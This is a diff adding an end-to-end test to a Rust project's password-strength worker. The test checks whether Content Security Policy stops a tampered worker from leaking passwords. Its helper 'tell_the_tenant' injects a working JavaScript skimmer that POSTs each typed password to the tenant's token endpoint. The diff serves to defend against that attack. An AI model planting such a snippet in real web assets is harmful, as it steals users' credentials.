@@ -2,8 +2,8 @@
 //! That no policy is violated and that the password is kept nowhere is looked at after every story.
 
 use portico_e2e::{ADDRESS, PASSWORD, Settings, Visitor, story};
-use portico_tenant::Strength;
-use serde_json::json;
+use portico_tenant::{Operation, Strength};
+use serde_json::{Value, json};
 use std::{fs, path::Path};
 
 fn strict_pool() -> Settings {
@@ -145,4 +145,79 @@ fn where_its_web_assembly_was_changed_it_is_not_run_and_the_tenant_judges() {
         the_tenant_judges(&world.visitor).await;
         world.activates(ADDRESS).await;
     });
+}
+
+/// Makes the worker tell the tenant each password before it judges it, as somebody could who may write this
+/// one file on the host.
+fn tell_the_tenant(dist: &Path) {
+    without(dist, ".js.");
+    for file in fs::read_dir(dist.join("assets")).unwrap() {
+        let path = file.unwrap().path();
+        let name = path.file_name().unwrap().to_string_lossy().into_owned();
+        if name.starts_with("strength-") && name.ends_with(".js") {
+            let script = fs::read_to_string(&path).unwrap();
+            let tells = "\nconst judges = onmessage;
+                onmessage = async (event) => {
+                    const config = await (await fetch('/config.json')).json();
+                    const [, password] = event.data;
+                    const to = config.tenant.issuer + '/oauth2/token';
+                    await fetch(to, { method: 'POST', mode: 'no-cors', body: password }).catch(() => {});
+                    judges(event);
+                };";
+            fs::write(path, script + tells).unwrap();
+        }
+    }
+}
+
+/// Changes what the host says with the worker's script.
+fn with_policy(dist: &Path, change: impl Fn(&str) -> Option<String>) {
+    let file = dist.join("headers.json");
+    let mut headers: Value = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
+    let changed = change(headers["workers"][0][1].as_str().unwrap());
+    match changed {
+        Some(policy) => headers["workers"][0][1] = json!(policy),
+        None => headers["workers"] = json!([]),
+    }
+    fs::write(file, headers.to_string()).unwrap();
+}
+
+#[test]
+fn a_changed_script_of_the_worker_can_tell_nobody_what_it_hears() {
+    type Host = fn(&Path);
+    // Netlify sends the page's policy as well: the browser obeys both.
+    let beside_the_pages: Host = |dist| {
+        tell_the_tenant(dist);
+        with_policy(dist, |own| {
+            let page = "default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; \
+                connect-src 'self' http://127.0.0.1:*; require-trusted-types-for 'script'; \
+                trusted-types portico-strength";
+            Some(format!("{page}, {own}"))
+        });
+    };
+    // In the place of its own it has the page's, which has to name the tenant.
+    let forgotten: Host = |dist| {
+        tell_the_tenant(dist);
+        with_policy(dist, |_| None);
+    };
+    for (site, told) in [
+        (tell_the_tenant as Host, false),
+        (beside_the_pages, false),
+        (forgotten, true),
+    ] {
+        let settings = Settings {
+            site: Some(site),
+            ..strict_pool()
+        };
+        story(settings, async |world| {
+            let visitor = &world.visitor;
+            visitor.expects_in_console("Content Security Policy");
+            visitor.expects_in_console("status of 400");
+            visitor.comes_to_the_form_as(ADDRESS).await;
+            let before = world.count(Operation::Token);
+            visitor.type_into("password", PASSWORD).await;
+            wait_for_rule(visitor, "met").await;
+            let after = world.count(Operation::Token);
+            assert_eq!(after > before, told, "{before} and {after} requests");
+        });
+    }
 }
